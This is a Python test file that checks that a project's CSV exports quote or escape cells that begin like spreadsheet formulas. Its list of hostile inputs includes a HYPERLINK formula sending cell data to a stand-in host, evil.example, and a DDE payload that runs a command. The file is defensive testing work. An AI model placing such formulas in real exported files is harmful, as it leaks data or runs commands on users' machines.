"""CSV files written from hostile values: a cell that starts like a formula gets a quote, in score --out and in the
feedback review's export."""

from __future__ import annotations

import csv
import io

from skynet_core.cases import Case
from skynet_core.feedback import export_rows, review, rows_csv
from skynet_core.results import CaseResult, CaseStatus
from skynet_core.runs.export import safe_csv_cell, write_results

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
]


def test_cells_that_start_like_a_formula_get_a_quote():
    for text in FORMULAS:
        assert safe_csv_cell(text) == "'" + text
    assert safe_csv_cell("\rx") == "\\rx"  # a carriage return is escaped (issue 21), so it starts nothing
    assert safe_csv_cell("fine =1") == "fine =1"
    assert safe_csv_cell(-0.5) == -0.5
    assert safe_csv_cell(None) is None


def test_score_out_csv_neutralises_formulas_in_every_text_cell(tmp_path):
    results = [
        CaseResult(
            id=text, split="train", candidate=text, status=CaseStatus.OK, score=-1.0, feedback=text, scores={"=x": 1.0}
        )
        for text in FORMULAS
    ]
    path = write_results(results, tmp_path / "r.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not cell.startswith("-") or cell == "-1.0", row
    assert rows[1][0] == "'" + FORMULAS[0]


def test_feedback_review_csv_neutralises_formulas():
    pairs = [
        (
            Case(id=text, input={"q": "1"}, output="x"),
            CaseResult(id=text, status=CaseStatus.OK, score=1.0, feedback=text),
        )
        for text in FORMULAS
    ]
    rows = export_rows(pairs, review(pairs), {})
    cells = [cell for row in csv.reader(io.StringIO(rows_csv(rows).decode(), newline="")) for cell in row]
    assert "'" + FORMULAS[1] in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
